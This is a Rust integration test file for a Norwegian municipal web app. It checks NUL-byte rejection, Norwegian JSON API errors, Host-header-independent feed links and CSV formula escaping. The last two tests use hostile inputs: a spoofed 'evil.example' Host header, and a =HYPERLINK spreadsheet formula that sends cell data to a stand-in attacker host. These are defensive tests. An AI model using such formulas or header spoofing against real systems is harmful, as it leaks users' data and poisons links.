//! Hostile input at the edge: control characters refused by field, API errors always in the
//! API's Norwegian JSON shape, links never built from the Host header.

use crate::backends;
use crate::helpers::*;
use reqwest::{Method, StatusCode};

backends! {
    async fn a_nul_byte_in_any_text_is_refused_with_400_naming_the_field(app) {
        let login = app.post_form("/logg-inn", &[("epost", "admin\u{0}@samveis.demo"), ("passord", "x")]).await;
        assert_eq!(login.status, StatusCode::BAD_REQUEST, "{}", login.body);
        assert!(login.text().contains("«epost»"), "{}", login.text());
        app.login(ADMIN).await;
        let audit = app.get("/admin/logg?type=%00").await;
        assert_eq!(audit.status, StatusCode::BAD_REQUEST);
        assert!(audit.text().contains("«type»"));
        let token = app.api_token().await;
        let body = serde_json::json!({"name": "Nul\u{0}samarbeid", "kind": "project", "layout": 2024, "host": "1804",
                                      "members": ["1804"], "valid_from": "2025-01-01"});
        let api = app.send_json(Method::POST, "/api/v1/collaborations", &body, Some(&token)).await;
        assert_eq!(api.status, StatusCode::BAD_REQUEST, "{}", api.body);
        assert!(api.json()["message"].as_str().unwrap().contains("«name»"), "{}", api.body);
        let path = app.get("/kommuner/18%0004").await;
        assert_eq!(path.status, StatusCode::BAD_REQUEST);
        let kept = app.post_form("/logg-inn", &[("epost", ADMIN), ("passord", "linje 1\r\nlinje 2\tfane")]).await;
        assert_eq!(kept.status, StatusCode::UNAUTHORIZED, "tab and new lines are ordinary text");
    }

    async fn api_errors_are_always_norwegian_json(app) {
        app.login(ADMIN).await;
        let missing = app.get("/api/v1/submissions").await;
        assert_eq!(missing.status, StatusCode::BAD_REQUEST, "{}", missing.body);
        assert_eq!(missing.json()["error"], "bad_request");
        assert_eq!(missing.json()["message"], "Spørringen i adressen mangler feltet «round».");
        let unknown = app.get("/api/v1/finnes-ikke").await;
        assert_eq!(unknown.status, StatusCode::NOT_FOUND);
        assert_eq!(unknown.json()["error"], "not_found");
        let page = app.get("/rapportering/runder/ikke-et-tall").await;
        assert!(!page.body.contains("Cannot parse") && !page.body.contains("Invalid URL"), "{}", page.body);
    }

    async fn feed_links_come_from_the_configured_public_address_not_the_host_header(app) {
        app.login(BODO).await;
        let token = app.csrf().await;
        let subscribed = app.client.post(app.url("/kalender/abonnement")).header("host", "evil.example")
            .form(&[("_csrf", token.as_str())]).send().await.unwrap().text().await.unwrap();
        assert!(subscribed.contains(&format!("{PUBLIC_URL}/kalender/feed/")), "{subscribed}");
        assert!(!subscribed.contains("evil.example"));
        let path = subscribed.split("/kalender/feed/").nth(1).and_then(|r| r.split(".ics").next()).unwrap();
        let feed = app.client.get(app.url(&format!("/kalender/feed/{path}.ics"))).header("host", "evil.example")
            .send().await.unwrap().text().await.unwrap();
        assert!(feed.contains("BEGIN:VCALENDAR") && !feed.contains("evil.example"), "{feed}");
    }

    async fn an_answer_that_looks_like_a_formula_is_exported_as_text(app) {
        app.login(ADMIN).await;
        let token = app.api_token().await;
        let id = crate::reporting::submission_id(&app, "Teknologistatus 2025", "1804").await;
        let path = format!("/api/v1/submissions/{id}");
        let version = app.get(&path).await.json()["version"].as_i64().unwrap();
        let formula = r#"=HYPERLINK("http://evil.example/?d="&A2,"x")"#;
        let body = serde_json::json!({"version": version, "answers": {"trygghetsalarm_fast_leverandor": formula}, "submit": false});
        let saved = app.send_json(Method::PUT, &path, &body, Some(&token)).await;
        assert_eq!(saved.status, StatusCode::OK, "{}", saved.body);
        let (version, now) = (saved.json()["version"].as_i64().unwrap(), app.now());
        let round = app.db.run(move |conn| {
            let row = samveis::reporting::store::submission(conn, id)?.unwrap();
            let update = samveis::reporting::store::SubmissionUpdate {
                state: samveis_domain::reporting::State::Submitted, answers: &row.answers, submitted_at: Some(now), reviewer_comment: "", override_reason: None,
            };
            samveis::reporting::store::update_submission(conn, id, version, &update, now)?;
            Ok::<_, samveis::db::StoreError>(row.round_id)
        }).await.unwrap();
        let csv = app.get(&format!("/rapportering/runder/{round}/eksport.csv")).await;
        assert_eq!(csv.status, StatusCode::OK);
        assert!(csv.body.contains("\"'=HYPERLINK("), "the formula is shown as text: {}", csv.body.lines().take(3).collect::<Vec<_>>().join("\n"));
        assert!(!csv.body.contains(";=HYPERLINK") && !csv.body.contains(";\"=HYPERLINK"));
    }
}
